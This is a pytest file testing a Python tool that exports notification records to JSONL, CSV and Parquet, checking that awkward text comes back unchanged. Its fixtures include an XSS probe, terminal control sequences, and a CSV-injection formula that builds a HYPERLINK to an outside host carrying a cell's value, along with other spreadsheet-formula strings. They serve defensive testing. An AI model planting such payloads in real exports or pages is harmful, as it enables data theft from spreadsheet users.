"""The formats: what is written is read back as it was, whatever it holds."""

import csv
import io
import json
import sys
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from console import ConsoleError
from console.publisher import formats
from console.publisher.columns import NOTIFICATIONS, Record
from console.publisher.formats import Format, Writer, format_of, writing
from tests.console.publisher.conftest import needs_pyarrow

NAMES = NOTIFICATIONS.names
FORMATS = [Format.JSONL, Format.CSV, pytest.param(Format.PARQUET, marks=needs_pyarrow)]


def record(**values: str | None) -> Record:
    """Give a record; what is not named is empty."""
    return {**dict.fromkeys(NAMES), **values}


def export(format_: Format, *batches: Sequence[Record]) -> bytes:
    """Write records, and give the bytes."""
    stream = io.BytesIO()
    with writing(format_, stream, NOTIFICATIONS) as writer:
        for batch in batches:
            writer.write(batch)
    return stream.getvalue()


def read(format_: Format, content: bytes) -> list[dict[str, Any]]:
    """Read records back, with what others have for that; what is empty is None."""
    if format_ is Format.JSONL:
        return [json.loads(line) for line in content.decode().split("\n")[:-1]]
    if format_ is Format.CSV:
        csv.field_size_limit(300_000)  # 131,072 otherwise: bodies can be longer
        rows = csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True)
        return [{name: value or None for name, value in row.items()} for row in rows]
    from pyarrow import parquet  # noqa: PLC0415 - an optional extra

    rows = parquet.read_table(io.BytesIO(content)).to_pylist()
    return [{name: _text(value) for name, value in row.items()} for row in rows]


def _text(value: object) -> object:
    return f"{value:%Y-%m-%dT%H:%M:%S.%fZ}" if isinstance(value, datetime) else value


TEXTS = {
    "plain": "orders",
    "quotes and commas": 'a "b", c',
    "lines": "a\nb\r\nc\rd",
    "blanks": "  a\t",
    "other scripts": "ünï 日本 \U0001f600 \u2028",
    "control characters": "\x1b[31m\x00\x07",
    "HTML": "<script>alert(1)</script>",
    "a formula": '=HYPERLINK("http://example.com?"&A1)',
    "a number": "007",
    "like nothing": "null",
    "long": "x" * 200_000,
}


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_a_text_comes_back_as_it_was(format_: Format, text: str) -> None:
    """Customers choose names, and errors quote anything."""
    written = [record(PartitionKey=text, body=text), record(PartitionKey="next")]

    assert read(format_, export(format_, written)) == written


@pytest.mark.parametrize("format_", FORMATS)
def test_records_come_in_their_order_whatever_the_batches(format_: Format, monkeypatch: pytest.MonkeyPatch) -> None:
    """Parquet is written in groups of its own; that is nothing that a reader sees."""
    monkeypatch.setattr(formats, "ROW_GROUP", 500)
    written = [record(PartitionKey=str(number), eventTime=None) for number in range(50)]

    assert read(format_, export(format_, written[:20], written[20:21], written[21:])) == written


@pytest.mark.parametrize("format_", FORMATS)
def test_without_records_the_columns_are_there(format_: Format) -> None:
    """An empty export is a table without rows, and no error for who reads it; lines of JSON have no heading."""
    content = export(format_)

    assert read(format_, content) == []
    if format_ is Format.CSV:
        assert content == b"PartitionKey,RowKey,eventTime,receivedAt,eventType,provisioningState,body\r\n"


@needs_pyarrow
def test_times_are_times_in_parquet_and_texts_elsewhere() -> None:
    """Parquet's are exact to a microsecond, which pandas and Power BI can hold; the order key beside them is exact."""
    import pyarrow as pa  # noqa: PLC0415 - an optional extra
    from pyarrow import parquet  # noqa: PLC0415 - the same

    written = [
        record(eventTime="2026-03-01T10:00:00.1234567Z", receivedAt="2026-03-01T10:00:02.500000Z"),
        record(eventTime=None, receivedAt="lately"),
        record(eventTime="9999-12-31T23:59:59.9999999Z", receivedAt="0001-01-01T00:00:00.000000Z"),
    ]

    table = parquet.read_table(io.BytesIO(export(Format.PARQUET, written)))

    assert dict(zip(table.schema.names, table.schema.types, strict=True)) == {
        **dict.fromkeys(NAMES, pa.string()),
        **dict.fromkeys(("eventTime", "receivedAt"), pa.timestamp("us", "UTC")),
    }
    assert table["eventTime"].to_pylist() == [
        datetime(2026, 3, 1, 10, 0, 0, 123456, tzinfo=UTC),
        None,
        datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
    ]
    assert table["receivedAt"].to_pylist() == [
        datetime(2026, 3, 1, 10, 0, 2, 500000, tzinfo=UTC),
        None,
        datetime(1, 1, 1, tzinfo=UTC),
    ]
    for format_ in (Format.JSONL, Format.CSV):
        assert read(format_, export(format_, written)) == written


@pytest.mark.parametrize("format_", FORMATS)
def test_half_a_surrogate_pair_does_not_stop_an_export(format_: Format) -> None:
    """UTF-16 can hold one, UTF-8 cannot; in JSON it is an escape and comes back."""
    (found,) = read(format_, export(format_, [record(body="a\ud83d", PartitionKey="é")]))

    assert found == record(body="a\ud83d" if format_ is Format.JSONL else "a\\ud83d", PartitionKey="é")


def test_lines_end_as_the_standard_says() -> None:
    """In CSV by RFC 4180, which every reader knows; a line of JSON ends in a line feed, and has no other."""
    written = [record(body="a\nb")]

    assert export(Format.CSV, written).count(b"\r\n") == 2
    assert export(Format.JSONL, written).count(b"\n") == 1


def test_what_a_spreadsheet_would_calculate_is_counted_and_not_changed() -> None:
    """A quote in front would make a false name of it for every program."""
    names = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a=1", " =1", "1-1", ""]
    stream = io.BytesIO()
    with writing(Format.CSV, stream, NOTIFICATIONS) as writer:
        writer.write([record(PartitionKey=name) for name in names])

    assert writer.formulas == 6
    assert [row["PartitionKey"] or "" for row in read(Format.CSV, stream.getvalue())] == names


@pytest.mark.parametrize(
    ("name", "format_"),
    [
        ("a.jsonl", Format.JSONL),
        ("a.ndjson", Format.JSONL),
        ("a.csv", Format.CSV),
        ("a.b.CSV", Format.CSV),
        ("a.parquet", Format.PARQUET),
        ("a.json", None),
        ("a", None),
        ("csv", None),
        (".csv", None),
    ],
)
def test_the_ending_of_a_name_says_the_format(name: str, format_: Format | None) -> None:
    """What one means by a name; where that is not clear, one has to say it."""
    assert format_of(Path(name)) is format_


def test_without_pyarrow_a_line_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is large, and an extra of its own."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)

    with pytest.raises(ConsoleError, match=r"^Parquet needs pyarrow: pip install pyarrow$"):
        export(Format.PARQUET)


@pytest.mark.parametrize("format_", FORMATS)
def test_a_writer_that_fails_leaves_it_at_that(format_: Format) -> None:
    """Parquet's own writer would try to end the file when it is collected, long after the stream is closed."""

    def interrupted(writer: Writer, stream: io.BytesIO) -> None:
        writer.write([record(body="a")])
        stream.close()
        raise KeyboardInterrupt

    stream = io.BytesIO()
    with pytest.raises(KeyboardInterrupt), writing(format_, stream, NOTIFICATIONS) as writer:
        interrupted(writer, stream)
    del writer  # pytest takes what is raised in collecting it for an error
